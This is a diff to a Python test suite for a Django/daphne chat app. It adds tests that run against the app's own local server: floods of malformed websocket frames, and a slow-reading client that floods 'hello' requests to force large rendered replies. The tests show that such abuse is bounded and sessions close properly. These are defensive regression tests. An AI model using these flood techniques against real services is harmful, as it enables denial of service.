@@ -1381,7 +1520,7 @@ def test_15_own_conversations_are_not_audited(client, django_user_model, alices_
     assert not LogEntry.objects.exists()
 
 
-# -- every page and socket needs a login -------------------------------------------------------
+# -- every page and socket needs a login -----------------------------------------------------------
 
 # Anyone may use these: signing in, the health check, and choosing the language of the sign-in
 # page (a cookie and a redirect; it shows and changes no one's data, and CSRF applies).
@@ -1514,6 +1653,335 @@ async def test_every_socket_needs_a_login():
         assert await _raw_socket(path, None) == (False, 4403), path
 
 
+# -- a socket's abuse costs a bounded amount, on a real daphne -------------------------------------
+#
+# These run against a daphne process of their own (its log and its figures are read), through
+# the `websockets` client: daphne's websocket layer (autobahn) is where a bad close code and
+# an unread socket used to cost memory, so the in-process communicator cannot show them.
+
+OPS_PASSWORD = "ops-pass-7713"
+USERS = {"mallory": "mallory-pass-1", "carol": "carol-pass-2", "dave": "dave-pass-3",
+         "erin": "erin-pass-4"}  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def own_server(app_simulator, tmp_path_factory):
+    """A daphne of these tests' own, on SQLite, with a staff account (to read the process's
+    figures on /healthz) and a few users."""
+    import subprocess
+    import sys
+
+    from tests.conftest import APP_API_KEY
+    from tests.live_server import _start_daphne
+
+    data_dir = tmp_path_factory.mktemp("abuse")
+    env = {
+        **__import__("os").environ,
+        "QWENWEB_DATA_DIR": str(data_dir),
+        "DATABASE_URL": f"sqlite:///{data_dir / 'db.sqlite3'}",
+        "DASHSCOPE_API_KEY": APP_API_KEY,
+        "DASHSCOPE_BASE_URL": app_simulator.native_base_url,
+        "DJANGO_ALLOWED_HOSTS": "127.0.0.1,localhost",
+        "PYTHONUNBUFFERED": "1",
+        "QWENWEB_MESSAGES_PER_MINUTE": "0",
+        # 1 MiB rather than 8: one answer to a hello below passes it.
+        "QWENWEB_SOCKET_BACKLOG_BYTES": str(1 << 20),
+    }
+    env.pop("REDIS_URL", None)
+    run = {"cwd": ROOT, "env": env, "check": True, "capture_output": True}
+    subprocess.run([sys.executable, "manage.py", "migrate", "-v0"], **run)
+    users = "; ".join(f"User.objects.create_user({n!r}, password={p!r})" for n, p in USERS.items())
+    subprocess.run(
+        [sys.executable, "manage.py", "shell", "-c",
+         "from django.contrib.auth.models import User; "
+         f"User.objects.create_user('ops', password={OPS_PASSWORD!r}, is_staff=True); {users}"],
+        **run,
+    )  # fmt: skip
+    log_path = data_dir / "daphne.log"
+    process, url = _start_daphne(env, log_path)
+
+    class Server:
+        pass
+
+    server = Server()
+    server.url, server.env, server.process, server.log_path = url, env, process, log_path
+
+    def shell(code: str) -> str:
+        """Run code in `manage.py shell`, as an admin at the command line would; returns the
+        last line it printed."""
+        output = subprocess.run(
+            [sys.executable, "manage.py", "shell", "-c", code], **{**run, "text": True}
+        ).stdout
+        return (output.strip().splitlines() or [""])[-1]
+
+    server.shell = shell
+    yield server
+    process.terminate()
+    process.wait(timeout=10)
+
+
+def _sign_in(url: str, username: str, password: str):
+    import httpx
+
+    client = httpx.Client(base_url=url, follow_redirects=False, timeout=30)
+    client.get("/accounts/login/")
+    response = client.post(
+        "/accounts/login/",
+        data={"username": username, "password": password,
+              "csrfmiddlewaretoken": client.cookies["csrftoken"]},
+        headers={"Referer": f"{url}/accounts/login/"},
+    )  # fmt: skip
+    assert response.status_code == 302, response.text
+    return client
+
+
+def _new_chat(client) -> str:
+    response = client.post(
+        "/c/new/", data={"csrfmiddlewaretoken": client.cookies["csrftoken"]},
+        headers={"Referer": f"{client.base_url}/"},
+    )  # fmt: skip
+    assert response.status_code == 302, response.text
+    return response.headers["Location"]
+
+
+def _socket_options(client, path: str) -> tuple[str, dict]:
+    url = str(client.base_url).rstrip("/")
+    headers = {"Cookie": "; ".join(f"{k}={v}" for k, v in client.cookies.items())}
+    return url.replace("http://", "ws://") + "/ws" + path, {
+        "additional_headers": headers,
+        "origin": url,
+    }
+
+
+def _process(ops) -> dict:
+    return ops.get("/healthz").json()["process"]
+
+
+def _settled(ops, *, within: float = 10.0) -> dict:
+    """The process's figures once its sockets have all gone (daphne reaps a closed socket's
+    application within a second or two)."""
+    deadline = time.monotonic() + within
+    while True:
+        figures = _process(ops)
+        if figures["sockets"] == 0 or time.monotonic() > deadline:
+            time.sleep(1.5)  # and once cancelled tasks are gone too
+            return _process(ops)
+        time.sleep(0.2)
+
+
+def _log_since(server, offset: int) -> str:
+    return server.log_path.read_bytes()[offset:].decode(errors="replace")
+
+
+BAD_FRAMES = [
+    "x",  # text, not JSON
+    b"\x00\x01binary",
+    "[1, 2]",  # JSON, not an object
+    "x" * (256 * 1024 + 1),  # over MAX_FRAME_BYTES
+]
+
+
+def test_bad_frames_close_with_a_reason_and_leave_nothing_behind(own_server):
+    """1,000 sockets closed by a bad frame leave the process as 1,000 clean closes do: no
+    socket in the registry, no background task, no memory beyond, no traceback in the log;
+    each is closed with a code of the app's own and a sentence. (Before: close(1003) was
+    refused by autobahn, daphne sent 1011 and logged a traceback, disconnect() never ran, and
+    every such consumer stayed registered with its tasks running.)"""
+    import websockets
+
+    mallory = _sign_in(own_server.url, "mallory", USERS["mallory"])
+    ops = _sign_in(own_server.url, "ops", OPS_PASSWORD)
+    ws_url, options = _socket_options(mallory, _new_chat(mallory))
+    log_offset = own_server.log_path.stat().st_size
+
+    async def sockets(count: int, bad: bool) -> list[tuple[int, str]]:
+        closes = []
+
+        async def one(n: int) -> None:
+            async with websockets.connect(ws_url, max_size=None, **options) as ws:
+                if not bad:
+                    return  # a clean close, code 1000
+                await ws.send(BAD_FRAMES[n % len(BAD_FRAMES)])
+                with pytest.raises(websockets.ConnectionClosed) as closed:
+                    while True:
+                        await asyncio.wait_for(ws.recv(), 10)
+                closes.append((closed.value.rcvd.code, closed.value.rcvd.reason))
+
+        for start in range(0, count, 25):
+            await asyncio.gather(*(one(n) for n in range(start, min(count, start + 25))))
+        return closes
+
+    asyncio.run(sockets(100, bad=False))  # warm up: caches, pools, the markdown renderer
+    before = _settled(ops)
+    asyncio.run(sockets(1000, bad=False))
+    after_clean = _settled(ops)
+    closes = asyncio.run(sockets(1000, bad=True))
+    after_bad = _settled(ops)
+
+    codes = {code for code, _reason in closes}
+    assert len(closes) == 1000 and codes == {4003, 4009}, codes
+    assert all(reason for _code, reason in closes)
+    assert {reason for _code, reason in closes} == {
+        "This connection takes JSON objects only.",
+        "This connection takes text messages only.",
+        "That message was too large to handle.",
+    }
+    assert after_clean["sockets"] == after_bad["sockets"] == 0, (after_clean, after_bad)
+    assert after_bad["tasks"] <= after_clean["tasks"] + 2, (before, after_clean, after_bad)
+    grown_clean = after_clean["rss_bytes"] - before["rss_bytes"]
+    grown_bad = after_bad["rss_bytes"] - after_clean["rss_bytes"]
+    print(f"RSS: +{grown_clean / 2**20:.1f} MB over 1,000 clean closes, "
+          f"+{grown_bad / 2**20:.1f} MB over 1,000 bad frames")  # fmt: skip
+    assert grown_bad < grown_clean + 8 * 2**20, (grown_clean, grown_bad)
+    log = _log_since(own_server, log_offset)
+    assert "Traceback" not in log and "Exception inside application" not in log, log[-3000:]
+
+
+def test_a_client_that_stops_reading_is_dropped_and_costs_bounded_memory(own_server):
+    """A client that sends hellos naming long messages and never reads what comes back: the
+    hellos are answered at most once a second, the server stops reading from it once its
+    buffer is full, the socket is dropped once what waits for it passes
+    QWENWEB_SOCKET_BACKLOG_BYTES (1 MiB here), and the process's memory grows by a bounded
+    amount (before: 1,000 hellos took a process from 341 MB to 723 MB, kept after the client
+    left)."""
+    import socket
+
+    import websockets
+
+    dave = _sign_in(own_server.url, "dave", USERS["dave"])
+    ops = _sign_in(own_server.url, "ops", OPS_PASSWORD)
+    path = _new_chat(dave)
+    conversation_id = path.strip("/").split("/")[-1]
+    # Twenty finished replies of 200 KB each: every hello naming them asks for 4 MB of HTML.
+    ids = json.loads(own_server.shell(
+        "import json; from conversations.models import Conversation, Message; "
+        f"c = Conversation.objects.get(pk={conversation_id!r}); "
+        "body = ('A paragraph of a long reply, *with* some `code` in it. ' * 30 + '\\n\\n') * 120; "
+        "ids = [Message.objects.create(conversation=c, role='assistant', status='complete', "
+        "content=body).pk for _ in range(20)]; print(json.dumps(ids))"
+    ))  # fmt: skip
+    ws_url, options = _socket_options(dave, path)
+    before = _settled(ops)
+
+    async def flood() -> tuple[int, float]:
+        raw = socket.socket()
+        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # the kernel holds little
+        raw.connect(("127.0.0.1", int(ws_url.split(":")[2].split("/")[0])))
+        async with websockets.connect(ws_url, sock=raw, max_queue=1, **options) as ws:
+            hello = json.dumps({"type": "hello", "streaming": ids * 5, "last": None})
+            started = time.monotonic()
+            sent = 0
+            try:
+                while time.monotonic() - started < 30:
+                    await asyncio.wait_for(ws.send(hello), 5)
+                    sent += 1
+                    await asyncio.sleep(0.05)
+            except (websockets.ConnectionClosed, OSError, TimeoutError):
+                return sent, time.monotonic() - started
+            return sent, -1.0
+
+    hellos, dropped_after = asyncio.run(flood())
+    peak = _process(ops)
+    after = _settled(ops)
+    print(f"{hellos} hellos, dropped after {dropped_after:.1f} s; RSS "
+          f"{before['rss_bytes'] / 2**20:.0f} -> {peak['rss_bytes'] / 2**20:.0f} MB "
+          f"(after: {after['rss_bytes'] / 2**20:.0f} MB)")  # fmt: skip
+    assert dropped_after > 0, "the socket of a client that does not read was never dropped"
+    assert after["sockets"] == 0
+    assert peak["rss_bytes"] - before["rss_bytes"] < 64 * 2**20
+    assert "stopped reading" in _log_since(own_server, 0)
+
+
+def test_hellos_are_deduplicated_capped_and_answered_at_most_once_a_window(own_server):
+    """Many hellos at once, naming the same finished replies over and over: the first is
+    answered, the rest at most once more (the latest), each reply rendered once per answer."""
+    import websockets
+
+    erin = _sign_in(own_server.url, "erin", USERS["erin"])
+    path = _new_chat(erin)
+    conversation_id = path.strip("/").split("/")[-1]
+    ids = json.loads(own_server.shell(
+        "import json; from conversations.models import Conversation, Message; "
+        f"c = Conversation.objects.get(pk={conversation_id!r}); "
+        "ids = [Message.objects.create(conversation=c, role='assistant', status='complete', "
+        "content=f'reply {n}').pk for n in range(30)]; print(json.dumps(ids))"
+    ))  # fmt: skip
+    ws_url, options = _socket_options(erin, path)
+
+    async def hellos() -> list[str]:
+        frames = []
+        async with websockets.connect(ws_url, **options) as ws:
+            hello = json.dumps({"type": "hello", "streaming": ids * 10, "last": None})
+            for _ in range(200):
+                await ws.send(hello)
+            with contextlib.suppress(TimeoutError):
+                while True:
+                    frames.append(await asyncio.wait_for(ws.recv(), 2.5))
+        return frames
+
+    frames = asyncio.run(hellos())
+    rendered = [pk for frame in frames for pk in re.findall(r'<article id="message-(\d+)"', frame)]
+    counts = {int(pk): rendered.count(pk) for pk in set(rendered)}
+    # At most MAX_HELLO_IDS (20) distinct replies per answer, each once; two answers.
+    assert set(counts) <= set(ids[:20]) and len(counts) == 20, counts
+    assert max(counts.values()) <= 2, counts
+
+
+# What an admin does at the command line, where no signal reaches the server's sockets.
+SESSION_ENDINGS = {
+    "password-changed": "u = User.objects.get(username='carol'); u.set_password('new-pw-9'); "
+    "u.save()",
+    "deactivated": "User.objects.filter(username='carol').update(is_active=False)",
+    "sessions-deleted": "from django.contrib.sessions.models import Session; "
+    "Session.objects.all().delete()",
+}
+
+
+@pytest.mark.parametrize("ending", list(SESSION_ENDINGS))
+def test_a_session_ended_from_the_command_line_refuses_the_next_send(own_server, ending):
+    """A password changed, the account deactivated or the session deleted through
+    `manage.py shell` (another process: its signals never reach the server's sockets): the
+    already-open socket refuses the next send, saves nothing and closes with 4403, which
+    makes the page reload onto the sign-in page."""
+    import websockets
+
+    own_server.shell(
+        "from django.contrib.auth.models import User; "
+        "u = User.objects.get(username='carol'); u.is_active = True; "
+        f"u.set_password({USERS['carol']!r}); u.save()"
+    )
+    carol = _sign_in(own_server.url, "carol", USERS["carol"])
+    path = _new_chat(carol)
+    ws_url, options = _socket_options(carol, path)
+
+    def saved() -> int:
+        return int(own_server.shell(
+            "from conversations.models import Message; "
+            f"print(Message.objects.filter(conversation_id={path.strip('/').split('/')[-1]!r})"
+            ".count())"
+        ))  # fmt: skip
+
+    async def scenario() -> tuple[int, str]:
+        async with websockets.connect(ws_url, **options) as ws:
+            await ws.send(json.dumps({"type": "send", "content": "before",
+                                      "client_message_id": str(uuid.uuid4())}))  # fmt: skip
+            transcript = Transcript()
+            while "complete" not in transcript.status.values():
+                transcript.feed(await asyncio.wait_for(ws.recv(), 10))
+            await asyncio.to_thread(own_server.shell, SESSION_ENDINGS[ending])
+            await asyncio.sleep(2.2)  # past SESSION_CHECK_INTERVAL: the next frame re-checks
+            await ws.send(json.dumps({"type": "send", "content": "after",
+                                      "client_message_id": str(uuid.uuid4())}))  # fmt: skip
+            with pytest.raises(websockets.ConnectionClosed) as closed:
+                while True:
+                    await asyncio.wait_for(ws.recv(), 10)
+            return closed.value.rcvd.code, closed.value.rcvd.reason
+
+    code, reason = asyncio.run(scenario())
+    assert code == 4403 and "Sign in again" in reason
+    assert saved() == 2  # "before" and its reply; nothing of "after"
+
+
 # -- a tab closed mid-reply is no error --------------------------------------------------------
 
 CLOSING_REPLY = "A reply for a tab that goes away: " + " ".join(f"word{i}" for i in range(8000))
@@ -1537,16 +2005,7 @@ def slow_client_server(live_app, tmp_path):
 
 
 def _signed_in(url: str, username: str) -> httpx.Client:
-    client = httpx.Client(base_url=url, timeout=10)
-    client.get("/accounts/login/")
-    response = client.post(
-        "/accounts/login/",
-        data={"username": username, "password": PASSWORDS[username],
-              "csrfmiddlewaretoken": client.cookies["csrftoken"]},
-        headers={"Referer": f"{url}/accounts/login/"},
-    )  # fmt: skip
-    assert response.status_code == 302, response.text
-    return client
+    return _sign_in(url, username, PASSWORDS[username])
 
 
 def test_a_tab_closed_mid_reply_leaves_no_error_in_the_log(slow_client_server, app_simulator):
